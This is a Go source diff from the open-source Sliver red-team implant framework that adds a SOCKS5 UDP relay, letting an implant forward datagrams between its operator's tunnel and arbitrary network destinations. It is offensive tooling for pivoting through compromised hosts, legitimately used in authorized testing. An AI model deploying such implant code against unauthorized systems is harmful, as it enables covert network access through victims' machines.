@@ -0,0 +1,172 @@
+package tunnel_handlers
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"errors"
+	"net"
+	"strconv"
+	"sync"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+var (
+	// socksAssociations - TunnelID -> *socksAssociation of every udp associate
+	socksAssociations = &sync.Map{}
+
+	errInvalidSocksDatagram = errors.New("[socks] invalid udp datagram")
+	errFragmentedDatagram   = errors.New("[socks] fragmented udp datagrams are not supported")
+)
+
+// socksAssociation - The udp socket of a client's udp associate, the client
+// handles the associate request and relays its datagrams over the tunnel
+type socksAssociation struct {
+	conn  *net.UDPConn
+	socks *socks
+}
+
+// socksDatagramHandler - Send a client's datagram to its destination, the socket
+// is opened with the tunnel's first datagram and closed with the tunnel
+func socksDatagramHandler(socksData *sliverpb.SocksData) {
+	value, ok := socksAssociations.Load(socksData.TunnelID)
+	if !ok {
+		tunnel, ok := socksTunnels.conns.Load(socksData.TunnelID)
+		if !ok {
+			return
+		}
+		conn, err := net.ListenUDP("udp", nil)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("[socks] Failed to open udp socket: %s", err)
+			// {{end}}
+			return
+		}
+		association := &socksAssociation{conn: conn, socks: tunnel.(*socks)}
+		value, ok = socksAssociations.LoadOrStore(socksData.TunnelID, association)
+		if ok {
+			conn.Close()
+		} else {
+			go association.recv()
+		}
+	}
+	association := value.(*socksAssociation)
+
+	destination, datagram, err := parseSocksDatagram(socksData.Data)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("%s", err)
+		// {{end}}
+		return
+	}
+	addr, err := net.ResolveUDPAddr("udp", destination)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[socks] Failed to resolve %s: %s", destination, err)
+		// {{end}}
+		return
+	}
+	_, err = association.conn.WriteToUDP(datagram, addr)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[socks] Failed to send datagram to %s: %s", destination, err)
+		// {{end}}
+	}
+}
+
+// recv - Send the replies to the client until the socket is closed
+func (a *socksAssociation) recv() {
+	buf := make([]byte, maxDatagramSize)
+	for {
+		n, addr, err := a.conn.ReadFromUDP(buf)
+		if err != nil {
+			return
+		}
+		packet, err := encodeSocksDatagram(addr.String(), buf[:n])
+		if err != nil {
+			continue
+		}
+		a.socks.send(packet, true)
+	}
+}
+
+// parseSocksDatagram - Parse a udp datagram: RSV FRAG ATYP DST.ADDR DST.PORT DATA
+func parseSocksDatagram(packet []byte) (string, []byte, error) {
+	if len(packet) < 4 {
+		return "", nil, errInvalidSocksDatagram
+	}
+	if packet[2] != 0 {
+		return "", nil, errFragmentedDatagram
+	}
+	data := packet[3:]
+	offset := 1
+	var host string
+	switch data[0] {
+	case 1:
+		if len(data) < offset+net.IPv4len+2 {
+			return "", nil, errInvalidSocksDatagram
+		}
+		host = net.IP(data[offset : offset+net.IPv4len]).String()
+		offset += net.IPv4len
+	case 3:
+		if len(data) < offset+1 || len(data) < offset+1+int(data[offset])+2 {
+			return "", nil, errInvalidSocksDatagram
+		}
+		host = string(data[offset+1 : offset+1+int(data[offset])])
+		offset += 1 + int(data[offset])
+	case 4:
+		if len(data) < offset+net.IPv6len+2 {
+			return "", nil, errInvalidSocksDatagram
+		}
+		host = net.IP(data[offset : offset+net.IPv6len]).String()
+		offset += net.IPv6len
+	default:
+		return "", nil, errInvalidSocksDatagram
+	}
+	port := int(data[offset])<<8 | int(data[offset+1])
+	return net.JoinHostPort(host, strconv.Itoa(port)), data[offset+2:], nil
+}
+
+// encodeSocksDatagram - A udp datagram to the client from source
+func encodeSocksDatagram(source string, datagram []byte) ([]byte, error) {
+	host, rawPort, err := net.SplitHostPort(source)
+	if err != nil {
+		return nil, err
+	}
+	port, err := strconv.ParseUint(rawPort, 10, 16)
+	if err != nil {
+		return nil, err
+	}
+	packet := []byte{0, 0, 0}
+	ip := net.ParseIP(host)
+	if ip == nil {
+		return nil, errInvalidSocksDatagram
+	}
+	if ip4 := ip.To4(); ip4 != nil {
+		packet = append(append(packet, 1), ip4...)
+	} else {
+		packet = append(append(packet, 4), ip.To16()...)
+	}
+	packet = append(packet, byte(port>>8), byte(port))
+	return append(packet, datagram...), nil
+}